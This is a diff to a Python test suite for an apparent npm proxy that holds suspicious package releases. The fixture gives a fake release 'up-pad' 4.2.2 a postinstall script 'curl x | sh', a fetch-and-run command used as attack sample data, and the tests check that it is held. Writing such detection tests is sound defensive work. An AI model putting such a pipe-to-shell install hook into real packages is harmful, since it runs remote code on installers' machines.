@@ -43,6 +43,17 @@ async def registry(aiohttp_server: AiohttpServer) -> FakeNpmRegistry:
     registry.add_version(
         "right-pad", "1.0.1", published=NOW - timedelta(days=10), publisher="mallory"
     )
+    # Laundering: 4.2.1 adds a decoy postinstall (held by the signal), 4.2.2 the payload a
+    # minute later; both are compared with 4.2.0, the release established before them.
+    registry.add_version("up-pad", "4.2.0", published=OLD, publisher="alice")
+    for version, script, minutes in (("4.2.1", "node -e 0", 0), ("4.2.2", "curl x | sh", 1)):
+        registry.add_version(
+            "up-pad",
+            version,
+            published=NOW - timedelta(days=5) + timedelta(minutes=minutes),
+            publisher="alice",
+            scripts={"postinstall": script},
+        )
     await registry.start(aiohttp_server)
     return registry
 
@@ -194,3 +205,24 @@ async def test_a_hold_rule_waits_for_an_exemption_and_a_block_still_wins(
     assert refused.status == 403
     assert (await refused.json())["reason"] == "blocked"
     assert (await explain(client, "right-pad", "1.0.1"))["verdict"] == "blocked"
+
+
+async def test_a_second_suspicious_release_in_a_row_stays_held(
+    client: Client, registry: FakeNpmRegistry
+) -> None:
+    """The decoy 4.2.1 does not launder the payload 4.2.2: it is held too, by the same signal
+    against 4.2.0, and `latest` stays 4.2.0."""
+    response = await client.get("/npm/up-pad", headers={"Accept": CORGI})
+    assert response.status == 200
+    body = await response.json(content_type=None)
+    assert list(body["versions"]) == ["4.2.0"]
+    assert body["dist-tags"] == {"latest": "4.2.0"}
+    assert "2 versions held" in response.headers["npm-notice"]
+
+    tarball = await client.get("/npm/up-pad/-/up-pad-4.2.2.tgz")
+    assert tarball.status == 403
+    (signal,) = (await tarball.json())["signals"]
+    assert signal["signal"] == "install-script-added"
+    assert signal["detail"] == "postinstall script added in 4.2.2; 4.2.0 had none"
+    assert registry.upstream.count("/up-pad/-/up-pad-4.2.2.tgz") == 0
+    assert (await client.get("/npm/up-pad/4.2.2")).status == 404
